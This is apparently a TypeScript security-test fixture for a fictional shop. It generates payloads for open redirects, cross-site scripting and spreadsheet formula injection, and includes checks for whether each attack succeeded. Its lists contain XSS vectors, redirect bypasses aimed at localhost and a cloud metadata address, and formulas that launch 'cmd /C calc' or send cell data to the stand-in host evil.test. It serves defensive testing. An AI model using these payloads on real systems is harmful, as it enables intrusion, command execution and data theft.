/**
 * What strangers write where something else is expected: addresses of foreign hosts, scripts, spreadsheet formulas. Made
 * from lists of tricks and a seed, for the bench and for its small size, with what it means that one of them worked.
 */
import { type Random, shuffled } from '../core/random-journeys.ts';

/** Of all ways to combine these, so many, in an order of chance. */
function combined(random: Random, count: number, ...lists: readonly (readonly string[])[]): string[] {
  const all = lists.reduce<string[]>((texts, list) => texts.flatMap((text) => list.map((one) => text + one)), ['']);
  const some = shuffled(random, [...new Set(all)]).slice(0, count);
  if (some.length < count) throw new RangeError(`only ${some.length} ways`);
  return some;
}

// ---------------------------------------------------------------------------------------------------------- redirects

const BEGINNINGS = [
  ...['https://', 'http://', 'HTTPS://', 'hTTps://', '//', '///', '////', '/', '', 'https:', 'https:/', 'https:///'],
  ...['https:\\\\', '\\\\', '/\\', '\\/', '/\t/', '\t//', ' https://', '\thttps://', 'ht\ttps://', 'https:/\n/'],
  ...['https://\u0000', '\u0000https://', '\u00a0https://', '\ufeffhttps://', 'https%3A%2F%2F', '%2F%2F', '/%5C'],
  ...['javascript:', 'jav\tascript:', 'JaVaScRiPt://', 'data:text/html,', 'vbscript:', 'file:///', 'ftp://', 'ws://'],
  ...['blob:https://', 'view-source:https://', 'about:blank#', 'mailto:', 'intent://', 'filesystem:https://', 'wss://'],
  ...['https://shop.example@', 'https://shop.example:x@', 'https://shop.example%40', 'https://shop.example\\@'],
  ...['https://shop.example\\.', 'https://shop.example.', 'https://shop.example%2e', 'https://shop.example%00.'],
  ...['https://shop.example\t.', 'https://shop.example#@', 'https://shop.example?@', 'https://user:word@', '//user@'],
] as const;

const HOSTS = [
  ...['evil.test', 'EVIL.TEST', 'evil.test.', 'evil.test:443', 'evil.test:80', 'evil.test:99999', 'evil.test:'],
  ...['ｅｖｉｌ.test', 'evil。test', 'evil．test', 'xn--vil-dma.test', 'évil.test', 'e\u00advil.test', 'evil%2etest'],
  ...['%65vil.test', 'evil.test\\', 'evil.test\\.shop.example', 'evil.test#shop.example', 'evil.test?shop.example'],
  ...['evil.test/shop.example', 'evil.test;shop.example', 'evil.test%23.shop.example', 'evil.test%00shop.example'],
  ...[
    'shop.example.evil.test',
    'shop-example.test',
    'evilshop.example',
    'www.shop.example',
    'shop.example.',
    '.shop.example',
  ],
  ...[
    'shop..example',
    'shop.example:8443',
    'shop.example:80',
    'shоp.example',
    'shop.exampIe',
    'shop.example@evil.test',
  ],
  ...['127.0.0.1', '0x7f000001', '2130706433', '0177.0.0.1', '127.1', '[::1]', '[::ffff:7f00:1]', '[::ffff:127.0.0.1]'],
  ...[
    'localhost',
    'localhost:8787',
    't.example',
    '169.254.169.254',
    '[fe80::1%25eth0]',
    'metadata',
    '',
    ' ',
    '@',
    ':@',
    '*',
  ],
] as const;

const ENDS = [
  ...[
    '',
    '/',
    '/x',
    '?tcid=stolen',
    '#a',
    '/..//evil.test',
    '/%2e%2e//evil.test',
    '/.//evil.test',
    '\\..\\',
    ';@evil.test',
  ],
  ...[
    '/\r\nlocation: https://evil.test',
    '%0d%0alocation:%20https://evil.test',
    '/?u=https://evil.test',
    '/@evil.test',
  ],
  ...['/<script>alert(1)</script>', ':alert(1)//', '/\u2028x'],
] as const;

/** Spellings of addresses that lead elsewhere, or seem to. */
export const foreignAddresses = (random: Random, count: number): string[] =>
  combined(random, count, BEGINNINGS, HOSTS, ENDS);

/** Of the shop itself, as people and programs write it: these must lead there, or nothing was tried. */
export const OWN_ADDRESSES: readonly string[] = [
  ...[
    'https://shop.example/tent',
    'HTTPS://SHOP.EXAMPLE/tent',
    'https://shop.example:443/tent',
    'https://shop.example',
  ],
  ...['https://shop.example/tent?u=https://evil.test', 'https://shop.example/tent#//evil.test'],
];

/** Whether a browser that is sent there ends anywhere but at the shop. */
export function leadsAway(location: string): boolean {
  const url = URL.parse(location, 'https://t.example');
  // As it is written too: what reads addresses otherwise than browsers must find the same host.
  const plain = /^https?:\/\/shop\.example[/?#]/.test(location) && !/[\s\p{Cc}]/u.test(location);
  return !url || !plain || url.host !== 'shop.example' || url.username !== '' || url.password !== '';
}

/** Follows a link with each of these as its deep link; those that led away, and how many led to a page of the shop. */
export async function followed(
  addresses: readonly string[],
  follow: (path: string) => Promise<{ status: number; location: string | null; type: string | null }>,
): Promise<{ away: string[]; deep: number }> {
  const away: string[] = [];
  let deep = 0;
  for (const address of addresses) {
    const { status, location, type } = await follow(`/go/anna?u=${encodeURIComponent(address)}`);
    if (status !== 302 || location === null || type !== null || leadsAway(location))
      away.push(`${address} → ${location}`);
    else if (!location.startsWith('https://shop.example/?from=anna')) deep += 1;
  }
  return { away, deep };
}

/** Where somebody who signs in might ask to be led: the same, and what looks like a path. */
export function nextPaths(random: Random, count: number): string[] {
  const paths = [
    '/',
    '//',
    '/\\',
    '\\',
    '/\t/',
    '/.//',
    '/..//',
    '/x/..//',
    '/%2e//',
    '/%2F/',
    '/%5C',
    '/x//',
    '/@',
    '/:',
    '/;',
    '/?//',
    '/#//',
  ];
  const half = Math.floor(count / 2);
  return [...foreignAddresses(random, count - half), ...combined(random, half, paths, HOSTS, ENDS)];
}

/** Whether a browser of this host that is led to a path leaves it, at once or when a page takes the path up again. */
export function leavesHost(path: string, origin = 'https://t.example'): boolean {
  const url = URL.parse(path, origin);
  const again = url && URL.parse(`${url.pathname}${url.search}${url.hash}`, origin);
  return url?.origin !== origin || again?.origin !== origin;
}

// ------------------------------------------------------------------------------------------------------------ scripts

/** What runs when it is markup, marked so that an element made of it is found even where it does not run. */
const MARKUP = [
  ...[
    '<script data-hit>hit(N)</script>',
    '<script data-hit src=data:,hit(N)></script>',
    '<ScRiPt data-hit>hit(N)</sCrIpT>',
  ],
  ...[
    '<img data-hit src=x onerror=hit(N)>',
    '<img data-hit src=x onerror="hit(N)">',
    "<img data-hit src='x' onerror='hit(N)'>",
  ],
  ...['<svg data-hit onload=hit(N)>', '<svg data-hit><script>hit(N)</script>', '<svg/data-hit/onload=hit(N)//'],
  ...[
    '<svg data-hit><animate onbegin=hit(N) attributeName=x dur=1s>',
    '<math data-hit><mi xlink:href="javascript:hit(N)">',
  ],
  ...['<iframe data-hit srcdoc="<script>parent.hit(N)</script>">', '<iframe data-hit src="javascript:parent.hit(N)">'],
  ...[
    '<a data-hit href="javascript:hit(N)">x</a>',
    '<a data-hit href="jav&#x09;ascript:hit(N)">x</a>',
    '<base data-hit href="//evil.test/hit(N)">',
  ],
  ...[
    '<details data-hit open ontoggle=hit(N)>',
    '<input data-hit autofocus onfocus=hit(N)>',
    '<video data-hit src=x onerror=hit(N)>',
  ],
  ...[
    '<audio data-hit src=x onerror=hit(N)>',
    '<object data-hit data="javascript:hit(N)">',
    '<embed data-hit src="javascript:hit(N)">',
  ],
  ...[
    '<body data-hit onload=hit(N)>',
    '<marquee data-hit onstart=hit(N)>',
    '<form data-hit><button formaction="javascript:hit(N)">',
  ],
  ...[
    '<meta data-hit http-equiv=refresh content="0;url=javascript:hit(N)">',
    '<link data-hit rel=stylesheet href="//evil.test/hit(N)">',
  ],
  ...[
    '<style data-hit>@import "//evil.test/hit(N)";</style>',
    '<template data-hit><script>hit(N)</script></template>',
    '<x data-hit onclick=hit(N)>',
  ],
  ...[
    '<noscript><p title="</noscript><img data-hit src=x onerror=hit(N)>">',
    '<!--><img data-hit src=x onerror=hit(N)>-->',
  ],
  ...[
    '<![CDATA[<script data-hit>hit(N)</script>]]>',
    '<select data-hit autofocus onfocus=hit(N)>',
    '<div data-hit style="background:url(javascript:hit(N))">',
  ],
  ...[
    '&lt;script data-hit&gt;hit(N)&lt;/script&gt;',
    '&#60;img data-hit src=x onerror=hit(N)&#62;',
    '\\u003cscript\\u003ehit(N)\\u003c/script\\u003e',
  ],
  ...[
    '%3Cscript%20data-hit%3Ehit(N)%3C/script%3E',
    '＜script data-hit＞hit(N)＜/script＞',
    'javascript:hit(N)',
    'JaVaScRiPt:hit(N)//',
  ],
  ...[
    'data:text/html,<script>hit(N)</script>',
    '{{constructor.constructor("hit(N)")()}}',
    '$'.concat('{hit(N)}'),
    '#{hit(N)}',
  ],
  ...[
    '{"__html":"<img data-hit src=x onerror=hit(N)>"}',
    '{"type":"script","props":{"data-hit":1,"children":"hit(N)"}}',
    "';hit(N)//",
    '`;hit(N)//',
  ],
] as const;
const BEFORE = ['', '">', "'>", '</script>', '</title>', '</textarea>', '-->', '"/>', ']]>', '</style>'] as const;

/** Each with its own number; short enough for most fields. */
export const scripts = (random: Random, count: number): string[] =>
  combined(random, count, BEFORE, MARKUP).map((text, number) => text.replaceAll('hit(N)', `hit(${number})`));

// ----------------------------------------------------------------------------------------------------------- formulas

const TRIGGERS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '  +',
  '\u00a0=',
  '\ufeff=',
  '＝',
  '＋',
  '－',
  '＠',
  '==',
  '=-',
  '+-',
];
const FORMULAS = [
  ...[
    "cmd|' /C calc'!A0",
    '1+1',
    'HYPERLINK("https://evil.test/?x="&A1,"look")',
    'SUM(A1:A9)',
    'DDE("cmd";"/C calc";"!A0")',
  ],
  ...[
    'WEBSERVICE("https://evil.test/"&A1)',
    'IMPORTXML(CONCAT("https://evil.test/",A1),"//a")',
    "'file:///etc/passwd'#$x.A1",
  ],
  ...[
    'IMAGE("https://evil.test/")',
    'A1',
    '"x"',
    "2+5+cmd|' /C calc'!A0",
    'EXEC("calc")',
    'CALL("Kernel32","WinExec","JCJ","calc",0)',
  ],
] as const;
const AFTER = ['', ',x', ';=1+1', '"', '\r\n=1+1', '\t=1'] as const;

export const formulas = (random: Random, count: number): string[] => combined(random, count, TRIGGERS, FORMULAS, AFTER);

/** Whether a spreadsheet would take this cell for a formula. */
export const isFormula = (cell: string): boolean => /^[\s\u200b]*[=+\-@＝＋－＠]|^[\t\r\n]/u.test(cell);

/** A cell as it was meant, without the sign that keeps it from being one. */
export const unescaped = (cell: string): string => (cell.startsWith("'") ? cell.slice(1) : cell);

export interface Named {
  readonly id: string;
  readonly text: string;
}

/** Makes somebody of every one of these names, with an entry of the log that says it wherever an entry can. */
export async function logged(
  run: (sql: string, ...values: unknown[]) => Promise<unknown>,
  { programId, texts, at }: { programId: string; texts: readonly string[]; at: number },
): Promise<Named[]> {
  const named = texts.map((text, number): Named => ({ id: String(number).padStart(26, '0'), text }));
  await run(
    `INSERT INTO people (id, email, name) SELECT value ->> 'id', value ->> 'id' || '@people.example', value ->> 'text'
     FROM json_each(?)`,
    JSON.stringify(named),
  );
  await run(
    `INSERT INTO audit (program_id, id, at, actor, act, subject, before, after, partner_id, origin)
     SELECT ?1, value ->> 'id', ?2, 'person:' || (value ->> 'id'), value ->> 'text', value ->> 'text',
       json_quote(value ->> 'text'), json_object('name', value ->> 'text'), NULL,
       json_object('country', value ->> 'text', 'address', value ->> 'text') FROM json_each(?3)`,
    ...[programId, at, JSON.stringify(named)],
  );
  return named;
}

/** Of a file of the log: cells that a spreadsheet would run, and texts that did not arrive as they were written. */
export function readFile(
  csv: string,
  named: readonly Named[],
  parse: (csv: string) => readonly (readonly string[])[],
): { cells: number; run: string[]; lost: string[] } {
  const [head = [], ...rows] = parse(csv);
  const cells = rows.flat();
  const at = (row: readonly string[] | undefined, column: string) => row?.[head.indexOf(column)];
  const lost = named.filter(({ id, text }) => {
    const row = rows.find((one) => at(one, 'id') === id);
    const told = ['actorName', 'subject', 'act', 'country', 'address'].map((column) =>
      unescaped(at(row, column) ?? ''),
    );
    return !told.every((one) => one === text) || at(row, 'after') !== JSON.stringify({ name: text });
  });
  return { cells: cells.length, run: cells.filter(isFormula), lost: lost.map((one) => one.text) };
}
